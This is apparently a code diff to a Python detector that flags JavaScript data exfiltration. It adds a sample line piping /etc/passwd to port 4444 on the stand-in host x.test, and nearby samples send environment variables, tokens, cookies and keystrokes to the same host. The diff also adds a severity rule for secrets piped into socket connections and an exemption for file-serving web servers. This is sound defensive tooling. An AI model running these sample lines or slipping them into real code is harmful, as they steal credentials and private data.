@@ -27,6 +27,7 @@ EXFILTRATION = rule(
         "fetch('https://x.test', { method: 'POST', body: JSON.stringify(process.env) })",
         "require('https').get('https://x.test/?' + require('fs').readFileSync('a'))",
         "require('dns').lookup(require('os').hostname() + '.x.test', f)",
+        "require('fs').createReadStream('/etc/passwd').pipe(require('net').connect(4444, 'x.test'))",
         "navigator.sendBeacon('https://x.test', localStorage.getItem('token'))",
         "new Image().src = 'https://x.test/p.png?c=' + document.cookie",
         "document.addEventListener('keydown', e => fetch('https://x.test/?' + e.key))",
@@ -67,6 +68,7 @@ _TALKS = re.compile(
     r"|request|ky|ofetch|undici|\$|node-fetch|cross-fetch|dns|https?|http2|net|tls|dgram|ws|nodemailer)(?:\.|$)"
 )
 _SENDS = re.compile(r"^net\.|^tls\.|^ws\b|\.(?:write|send|end|emit|sendMessage|sendMail|post|put)$")
+_CONNECTION = re.compile(r"^(?:net|tls|https?|http2|ws)\.(?:connect|createConnection|Socket|request)\(\)")
 _CARRIES = frozenset({"headers", "auth", "Authorization", "params"})
 _LISTS = re.compile(
     r"^(?:JSON\.stringify|Object\.(?:keys|values|entries|assign)|console\.\w+|util\.inspect"
@@ -99,15 +101,31 @@ def leaves(program: Program, call: JavaScriptCall) -> Level | None:
             if re.search(r"\bfetch\(|sendBeacon|\.send\(|\.src\s*=", program.tree.of(call.node))
             else None
         )
+    if call.path.endswith(".pipe") and _CONNECTION.match(call.arg(0).path) and call.target.taints & _SECRET:
+        return HIGH
     if not (talks or sends):
         return None
     taints = frozenset(taint for index in range(len(call.args)) for taint in _sent(program, call, index))
+    if taints & _SECRET == {"file"} and not talks and _is_answer(program, call):
+        return None
     if taints & _SECRET:
         return _grave(call, taints)
     carried = any(
         call.arg(at).taints & _SECRET for at, node in enumerate(call.nodes) if node.type == "object"
     )
     return LOW if carried else None
+
+
+def _is_answer(program: Program, call: JavaScriptCall) -> bool:
+    """Whether a call is within what a web server does for each request: it serves files."""
+    node: Node | None = call.node
+    while node is not None:
+        callee = node.child_by_field_name("function") if node.type == "call_expression" else None
+        path = program.resolver.path(callee, call.scope) if callee is not None else ""
+        if re.fullmatch(r"https?\.createServer|http2\.create\w*Server", path):
+            return True
+        node = node.parent
+    return False
 
 
 def _sent(program: Program, call: JavaScriptCall, index: int) -> frozenset[str]:
